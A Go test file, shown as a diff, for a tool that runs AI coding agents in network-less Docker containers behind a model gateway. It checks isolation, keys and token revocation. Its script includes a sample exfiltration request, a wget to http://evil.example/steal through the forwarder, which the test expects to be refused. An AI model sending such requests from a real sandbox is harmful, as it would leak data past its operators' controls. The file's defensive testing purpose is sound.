@@ -1,0 +1,336 @@
+package bot
+
+import (
+	"context"
+	"io"
+	"net"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/docker/docker/api/types/container"
+	"github.com/docker/docker/api/types/filters"
+	"github.com/docker/docker/client"
+
+	"github.com/alchemic-studio/alfred/agents/claudecode"
+	"github.com/alchemic-studio/alfred/agents/fake"
+	"github.com/alchemic-studio/alfred/agents/mockllm"
+	"github.com/alchemic-studio/alfred/forges"
+	"github.com/alchemic-studio/alfred/gateway"
+	"github.com/alchemic-studio/alfred/state"
+)
+
+// buildForwarder builds cmd/alfred-forward static, as the agent image does,
+// for bind-mounting into a busybox container (Seal.Forwarder): the test runs
+// the forwarder of this tree, not a copy baked into an image earlier.
+func buildForwarder(t *testing.T) string {
+	t.Helper()
+	bin := filepath.Join(t.TempDir(), "alfred-forward")
+	cmd := exec.Command("go", "build", "-trimpath", "-o", bin, "../cmd/alfred-forward")
+	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("build alfred-forward: %v\n%s", err, out)
+	}
+	if err := os.Chmod(bin, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	return bin
+}
+
+// TestSealedRunInDocker: with the model gateway on, an engine's run goes
+// through it end to end in a real container. The container has no network
+// device but lo and no provider key (docker inspect: environment and
+// mounts); its "CLI" (busybox wget standing in for one, through the
+// forwarder) reaches the mock model, the upstream provider on the host, with
+// the run's token; a request to another host through the forwarder is
+// refused and recorded on the run; after the run its token is refused.
+func TestSealedRunInDocker(t *testing.T) {
+	t.Parallel()
+	runner, image := dockerRunner(t)
+	mock := mockllm.Start(mockllm.Options{Reply: "hello from the mock"})
+	t.Cleanup(mock.Close)
+	const providerKey = "sk-ant-provider-key-0123456789"
+	gwDir, err := os.MkdirTemp("", "gwt")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(gwDir) })
+	g, err := gateway.New(gateway.Options{Providers: []gateway.Provider{gateway.Anthropic(mock.URL, providerKey)}, Dir: gwDir})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { g.Close() })
+	fwd := buildForwarder(t)
+
+	S := fake.SessionStatePath
+	script := strings.Join([]string{
+		// The model, as a CLI calls it: its base URL and its "key".
+		`wget -q -O ` + S + `/model --header "x-api-key: $FAKE_API_KEY" --header 'content-type: application/json' --header 'anthropic-version: 2023-06-01' ` +
+			`--post-data '{"model":"mock","max_tokens":16,"messages":[{"role":"user","content":"hi"}]}' "$FAKE_BASE_URL/v1/messages" 2>` + S + `/model.err; echo $? > ` + S + `/model.rc`,
+		// Elsewhere, through the forwarder used as a proxy.
+		`http_proxy=http://127.0.0.1:47080 wget -q -O ` + S + `/out http://evil.example/steal 2>` + S + `/out.err; echo $? > ` + S + `/out.rc`,
+		// Straight out: no network.
+		`wget -q -T 3 -O ` + S + `/direct http://1.1.1.1/ 2>` + S + `/direct.err; echo $? > ` + S + `/direct.rc`,
+		`tail -n +3 /proc/net/dev | wc -l > ` + S + `/links`,
+		`echo "$FAKE_API_KEY" > ` + S + `/token`,
+		`sleep 2`, // time for docker inspect
+	}, "; ")
+	h := newHarness(t, func(s *setup) {
+		fa, err := fake.New(fake.Options{ResumableSessions: true, Reply: analysisReply, Exec: []string{"sh", "-c", script}, Sealed: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		s.adapter = &scripted{Adapter: fa}
+		s.runner = "image"
+		s.installation = &state.AgentInstallation{Runner: "image", Image: image, Version: fake.Version, ResumableSessions: true}
+	})
+	h.engine.Close()
+	cfg := h.engine.cfg
+	cfg.Runner, cfg.Sandbox.Image, cfg.Sandbox.UID, cfg.Sandbox.GID = runner, image, 1000, 1000
+	cfg.Seal = &Seal{Gateway: g, Forwarder: fwd}
+	e, err := New(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := e.Start(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(e.Close)
+	h.engine = e
+
+	// docker inspect of the run's container, while it runs.
+	dc, err := client.NewClientWithOpts(client.FromEnv, client.WithHost(os.Getenv("ALFRED_TEST_DOCKER_HOST")), client.WithAPIVersionNegotiation())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer dc.Close()
+	var (
+		mu        sync.Mutex
+		inspected *container.InspectResponse
+	)
+	stop := make(chan struct{})
+	watched := make(chan struct{})
+	go func() {
+		defer close(watched)
+		for {
+			select {
+			case <-stop:
+				return
+			case <-time.After(100 * time.Millisecond):
+			}
+			list, err := dc.ContainerList(context.Background(), container.ListOptions{Filters: filters.NewArgs(filters.Arg("label", "alfred.mailbox"))})
+			if err != nil {
+				continue
+			}
+			for _, c := range list {
+				// This test's run: its socket comes from this test's gateway.
+				if !slices.ContainsFunc(c.Mounts, func(m container.MountPoint) bool { return strings.HasPrefix(m.Source, gwDir+"/") }) {
+					continue
+				}
+				in, err := dc.ContainerInspect(context.Background(), c.ID)
+				if err == nil && in.Config != nil {
+					mu.Lock()
+					inspected = &in
+					mu.Unlock()
+					return
+				}
+			}
+		}
+	}()
+
+	h.openIssue(7, "Add a greeting", "type::task")
+	h.send(forges.Event{Type: forges.EventIssueAssigned, Actor: "alice", Assignee: "alfred", Target: h.issueTarget(7), Labels: []string{"type::task"}})
+	mb := h.waitStatus(7, StatusWaitingValidation)
+	close(stop)
+	<-watched
+
+	dir := e.cfg.Sessions.Dir(mb, fake.ID)
+	read := func(name string) string {
+		b, err := os.ReadFile(filepath.Join(dir, name))
+		if err != nil {
+			t.Errorf("the agent's file %s: %v", name, err)
+		}
+		return strings.TrimSpace(string(b))
+	}
+	if rc, body := read("model.rc"), read("model"); rc != "0" || !strings.Contains(body, "hello from the mock") {
+		t.Errorf("the model through the gateway: rc %s, %q, stderr %q", rc, body, read("model.err"))
+	}
+	if rc := read("out.rc"); rc == "0" || !strings.Contains(read("out.err"), "403") {
+		t.Errorf("a request elsewhere through the forwarder was not refused: rc %s, %q", rc, read("out.err"))
+	}
+	if rc := read("direct.rc"); rc == "0" {
+		t.Errorf("the container reached the network directly")
+	}
+	if n := read("links"); n != "1" {
+		t.Errorf("the container has %s network devices, want only lo", n)
+	}
+	token := read("token")
+	if !strings.HasPrefix(token, "alfred-run-") {
+		t.Errorf("the CLI's key is %q, not a run token", token)
+	}
+	var got []string
+	for _, r := range mock.Requests() {
+		got = append(got, r.Path+" "+r.Header.Get("X-Api-Key"))
+	}
+	if len(got) != 1 || got[0] != "/v1/messages "+providerKey+" [redacted]" { // the mock keeps a header's first word
+
+		t.Errorf("the mock model saw %q, want one request with the provider's key", got)
+	}
+
+	mu.Lock()
+	in := inspected
+	mu.Unlock()
+	if in == nil {
+		t.Fatal("the run's container was never inspected")
+	}
+	if in.HostConfig.NetworkMode != "none" {
+		t.Errorf("network %q, want none", in.HostConfig.NetworkMode)
+	}
+	var sock bool
+	for _, m := range in.Mounts {
+		if strings.Contains(m.Source+m.Destination, providerKey) || strings.Contains(m.Source+m.Destination, "sk-very-secret") {
+			t.Errorf("a mount names a key: %+v", m)
+		}
+		if m.Destination == gateway.ContainerSocket && m.RW {
+			sock = true
+		}
+		if m.Destination == ForwarderPath && m.RW {
+			t.Error("the forwarder is mounted read-write")
+		}
+	}
+	if !sock {
+		t.Errorf("no read-write socket at %s: %+v", gateway.ContainerSocket, in.Mounts)
+	}
+	for _, kv := range in.Config.Env {
+		if strings.Contains(kv, providerKey) || strings.Contains(kv, "sk-very-secret") {
+			t.Errorf("the container's environment holds a provider key: %s", kv)
+		}
+	}
+	if argv := strings.Join(append(slices.Clone(in.Config.Entrypoint), in.Config.Cmd...), " "); !strings.HasPrefix(argv, ForwarderPath+" -port 47080 -socket "+gateway.ContainerSocket+" -- sh -c ") {
+		t.Errorf("the container's command %q", argv)
+	}
+
+	// The run's record: the gateway's usage and the refusal.
+	runs, err := h.store.Runs(mb.ID)
+	if err != nil || len(runs) != 1 {
+		t.Fatalf("runs %v %v", runs, err)
+	}
+	rg := runs[0].Gateway
+	if rg == nil || rg.Requests != 1 || rg.InputTokens == 0 || rg.OutputTokens == 0 || rg.RefusedTotal != 1 ||
+		len(rg.Refused) != 1 || !strings.Contains(rg.Refused[0], "the agent tried to reach evil.example/steal (GET): refused") {
+		t.Errorf("the run's gateway record: %+v", rg)
+	}
+	if strings.Contains(runs[0].Log, token) || strings.Contains(runs[0].Log, providerKey) {
+		t.Error("the run's log shows the run token or the key")
+	}
+
+	// After the run: its socket is gone, and its token is refused by the
+	// gateway (on another run's socket too).
+	if entries, _ := os.ReadDir(gwDir); len(entries) != 0 {
+		t.Errorf("the run's session folder is left: %v", entries)
+	}
+	other, err := g.Open("another-run")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer other.Close()
+	hc := &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
+		return (&net.Dialer{}).DialContext(ctx, "unix", other.SocketPath())
+	}}}
+	req, _ := http.NewRequest("POST", "http://127.0.0.1:47080/anthropic/v1/messages", strings.NewReader(`{"model":"mock","max_tokens":16,"messages":[{"role":"user","content":"hi"}]}`))
+	req.Header.Set("x-api-key", token)
+	resp, err := hc.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	body, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusUnauthorized {
+		t.Errorf("the ended run's token on another run's socket: %d %s", resp.StatusCode, body)
+	}
+	if n := len(mock.Requests()); n != 1 {
+		t.Errorf("the mock saw %d requests, want still 1", n)
+	}
+}
+
+// TestSealedClaudeCodeInDocker: the real Claude Code of the agent image
+// (ALFRED_TEST_AGENT_IMAGE; the forwarder bind-mounted, since the image was
+// built before it had one) runs an analysis through the gateway with no
+// network, and the engine takes its plan; the mock model saw the provider's
+// key, the run records the gateway's figures.
+func TestSealedClaudeCodeInDocker(t *testing.T) {
+	t.Parallel()
+	runner, _ := dockerRunner(t)
+	image := os.Getenv("ALFRED_TEST_AGENT_IMAGE")
+	if image == "" {
+		t.Skip("ALFRED_TEST_AGENT_IMAGE is not set: build the images with scripts/images.sh")
+	}
+	mock := mockllm.Start(mockllm.Options{Reply: analysisReply})
+	t.Cleanup(mock.Close)
+	const providerKey = "sk-ant-provider-key-0123456789"
+	gwDir, err := os.MkdirTemp("", "gwc")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(gwDir) })
+	g, err := gateway.New(gateway.Options{Providers: []gateway.Provider{gateway.Anthropic(mock.URL, providerKey)}, Dir: gwDir})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { g.Close() })
+	claude, err := claudecode.New()
+	if err != nil {
+		t.Fatal(err)
+	}
+	h := newHarness(t, func(s *setup) {
+		s.adapters[claudecode.ID] = claude
+		s.settings = append(s.settings, projectSetting("AGENT_ADAPTER", claudecode.ID), projectSetting("RUN_TIMEOUT", "3m"))
+	})
+	h.engine.Close()
+	cfg := h.engine.cfg
+	cfg.Runner, cfg.Sandbox.Image, cfg.Sandbox.UID, cfg.Sandbox.GID = runner, image, 1000, 1000
+	cfg.Sandbox.Env = map[string]string{"HOME": "/home/agent", "PATH": "/usr/local/bin:/usr/bin:/bin", "LANG": "C.UTF-8",
+		"ANTHROPIC_API_KEY": "sk-offered-key-0123456789"} // withheld by the seal
+	cfg.Seal = &Seal{Gateway: g, Forwarder: buildForwarder(t)}
+	e, err := New(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := e.Start(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(e.Close)
+	h.engine = e
+
+	h.openIssue(7, "Add a greeting", "type::task")
+	h.send(forges.Event{Type: forges.EventIssueAssigned, Actor: "alice", Assignee: "alfred", Target: h.issueTarget(7), Labels: []string{"type::task"}})
+	mb := h.waitStatus(7, StatusWaitingValidation)
+	runs, err := h.store.Runs(mb.ID)
+	if err != nil || len(runs) != 1 {
+		t.Fatalf("runs %v %v", runs, err)
+	}
+	run := runs[0]
+	if run.Status != state.RunSucceeded || run.AdapterID != claudecode.ID {
+		t.Fatalf("run %s %s: %s\n%s", run.AdapterID, run.Status, run.Outcome, run.Log)
+	}
+	reqs := mock.Requests()
+	if len(reqs) == 0 {
+		t.Fatal("the mock model saw no request")
+	}
+	for _, r := range reqs {
+		if k := r.Header.Get("X-Api-Key"); k != providerKey+" [redacted]" {
+			t.Errorf("the mock saw key %q on %s", k, r.Path)
+		}
+	}
+	rg := run.Gateway
+	if rg == nil || rg.Requests != int64(len(reqs)) || rg.InputTokens == 0 || rg.OutputTokens == 0 {
+		t.Errorf("the run's gateway record %+v, the mock saw %d requests", rg, len(reqs))
+	}
+	t.Logf("claude through the gateway: %d requests, gateway %+v, refused %v", len(reqs), rg, rg.Refused)
+}
